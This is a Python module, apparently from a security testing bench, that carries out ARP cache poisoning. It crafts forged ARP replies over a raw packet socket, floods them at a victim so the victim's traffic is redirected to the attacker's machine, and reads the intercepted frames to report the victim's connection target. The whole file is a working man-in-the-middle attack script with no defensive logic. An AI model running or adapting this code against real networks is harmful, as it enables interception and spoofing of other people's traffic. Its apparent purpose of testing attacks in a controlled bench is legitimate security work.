"""Of the attacker's tool, what needs root: lies in ARP, connection requests from every port."""

import select
import socket
import struct
import time

from bench.attacks.host_base import say


def poison(interface: str, own: str, victim: str, victim_mac: str, claimed: str, seconds: str) -> None:
    """Unsolicited replies, and gratuitous ones, which no host waits a second to believe."""
    me, him = (bytes.fromhex(mac.replace(":", "")) for mac in (own, victim_mac))
    as_claimed, at_victim = socket.inet_aton(claimed), socket.inet_aton(victim)

    def reply(to: bytes, to_address: bytes) -> bytes:
        head = him + me + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x800, 6, 4, 2)
        return head + me + as_claimed + to + to_address

    lies = (reply(him, at_victim), reply(me, as_claimed))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x800)) as sock:
        sock.bind((interface, 0x800))
        say(ready=True)
        ends = time.monotonic() + float(seconds)
        while (now := time.monotonic()) < ends:
            for lie in lies:
                sock.send(lie)
            while select.select([sock], [], [], max(0.0, now + 0.1 - time.monotonic()))[0]:
                frame = sock.recv(2048)
                if frame[:6] == me and frame[26:30] == at_victim and frame[30:34] != socket.inet_aton("0.0.0.0"):
                    say(target=socket.inet_ntoa(frame[30:34]), proto=frame[23])
                    return
    say(target="")
